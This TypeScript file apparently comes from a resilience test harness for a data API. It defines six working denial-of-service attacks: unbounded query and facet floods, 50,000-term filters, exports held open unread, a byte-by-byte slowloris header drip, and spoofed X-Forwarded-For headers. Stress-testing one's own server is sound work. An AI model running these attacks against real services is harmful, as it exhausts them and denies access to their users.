/** What somebody does who wants the server for himself; each goes on until it is stopped. */
import { connect, type Socket } from 'node:net'
import { setTimeout as delay } from 'node:timers/promises'
import { request } from 'undici'

export interface Attack {
  readonly name: string
  readonly run: (target: Target) => Promise<void>
}

export interface Target {
  readonly url: string
  /** Of one dataset, without the last segment. */
  readonly path: string
  readonly stop: AbortSignal
  /** Counts what came back: a status, or what happened instead. */
  count(outcome: string): void
}

/** As a proxy on the same machine says it. */
const headers = { 'X-Forwarded-For': '203.0.113.66' }
/** Who is refused comes back: a thousand at once would be another attack, on the network. */
const backoffMs = 5000

export const attacks: readonly Attack[] = [
  {
    name: 'groups by a unique column, 200 at once',
    run: (target) =>
      loops(target, 200, (n) =>
        ask(
          target,
          `/records?${new URLSearchParams({ select: `count(*) as n${n}`, group_by: 'unique_key', order_by: 'unique_key desc', limit: '20000' })}`,
        ),
      ),
  },
  {
    name: '1,000 exports that nobody reads',
    run: (target) => loops(target, 1000, (n) => openUnread(target, n)),
  },
  {
    name: 'filters of 1,500 terms and searches of 50 words, 100 at once',
    run: (target) =>
      loops(target, 100, (n) =>
        ask(target, `/records?${new URLSearchParams({ where: n % 2 ? prefixes(n) : words(n) })}`),
      ),
  },
  {
    name: 'filters of 50,000 terms, long patterns, as address and as body, 50 at once',
    run: (target) =>
      loops(target, 50, async (n) => {
        const terms = Array.from({ length: 50_000 }, (_, term) => `unique_key=${term}`).join(' or ')
        if (n % 3 === 0) return ask(target, `/records?where=${encodeURIComponent(terms)}`)
        if (n % 3 === 1) return ask(target, '/records', terms)
        return ask(target, `/records?where=${encodeURIComponent(`agency like "${'%a_'.repeat(30_000)}"`)}`)
      }),
  },
  {
    name: '1,000 heads of requests, sent byte by byte',
    run: (target) => loops(target, 1000, () => drip(target)),
  },
  {
    name: 'facets of a unique column, 60 of them, 100 at once',
    run: (target) =>
      loops(target, 100, (n) => {
        const facet = (at: number) =>
          `facet=${encodeURIComponent(`facet(name="unique_key", limit=${900 + ((n + at) % 100)})`)}`
        return ask(target, `/facets?${Array.from({ length: 60 }, (_, at) => facet(at)).join('&')}`)
      }),
  },
]

const prefixes = (n: number) =>
  Array.from({ length: 1500 }, (_, term) => `startswith(agency,"${n} ${term}")`).join(' or ')
const words = (n: number) =>
  `search("${Array.from({ length: 50 }, (_, word) => `str${(n + word) % 97}et`).join(' ')}")`

async function loops(target: Target, width: number, work: (n: number) => Promise<void>): Promise<void> {
  await Promise.all(
    Array.from({ length: width }, async (_, n) => {
      while (!target.stop.aborted) {
        await work(n).catch((error) =>
          target.count(target.stop.aborted ? 'stopped' : String(error.code ?? error.name)),
        )
      }
    }),
  )
}

async function ask(target: Target, path: string, body?: string): Promise<void> {
  const answer = await request(`${target.url}${target.path}${path}`, {
    method: body === undefined ? 'GET' : 'POST',
    headers,
    body: body ?? null,
    signal: target.stop,
    headersTimeout: 120_000,
  })
  await answer.body.dump()
  target.count(String(answer.statusCode))
  if (answer.statusCode >= 400) await delay(backoffMs, undefined, { signal: target.stop })
}

/** Opens an export on a socket of its own, reads its status line and then nothing for ever. */
async function openUnread(target: Target, n: number): Promise<void> {
  const socket = connectTo(target)
  const format = ['csv', 'json', 'jsonl', 'geojson', 'xlsx'][n % 5]
  const forwarded = `X-Forwarded-For: ${headers['X-Forwarded-For']}`
  socket.write(
    `GET ${target.path}/exports/${format}?select=*&order_by=created_date HTTP/1.1\r\nHost: bench\r\n${forwarded}\r\n\r\n`,
  )
  const head = await firstBytes(socket)
  target.count(head.slice(9, 12))
  if (head.startsWith('HTTP/1.1 200')) await closed(socket)
  else {
    socket.destroy()
    await delay(backoffMs, undefined, { signal: target.stop })
  }
}

async function drip(target: Target): Promise<void> {
  const socket = connectTo(target)
  const dripping = setInterval(() => socket.write('a'), 500)
  socket.write(`GET ${target.path}/records HTTP/1.1\r\nHost: bench\r\nX-Slow: `)
  await closed(socket)
  clearInterval(dripping)
  target.count('closed')
}

function connectTo(target: Target): Socket {
  const { hostname, port } = new URL(target.url)
  const socket = connect(Number(port), hostname)
  socket.on('error', () => {})
  const leave = () => socket.destroy()
  target.stop.addEventListener('abort', leave)
  socket.once('close', () => target.stop.removeEventListener('abort', leave))
  return socket
}

function firstBytes(socket: Socket): Promise<string> {
  return new Promise((resolve, reject) => {
    socket.once('readable', () => resolve(String(socket.read(12) ?? '')))
    socket.once('close', () => reject(new Error('closed')))
  })
}

const closed = (socket: Socket) => new Promise<void>((resolve) => socket.once('close', () => resolve()))
